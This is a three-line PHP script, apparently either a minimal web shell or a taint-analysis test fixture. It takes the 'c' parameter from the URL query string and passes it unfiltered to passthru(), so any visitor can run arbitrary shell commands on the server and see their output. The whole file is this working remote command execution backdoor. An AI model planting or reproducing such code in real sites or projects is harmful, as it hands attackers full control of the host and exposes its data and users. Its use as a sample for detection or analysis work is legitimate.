<?php
function g() { return $_GET["c"]; }
\passthru(g());
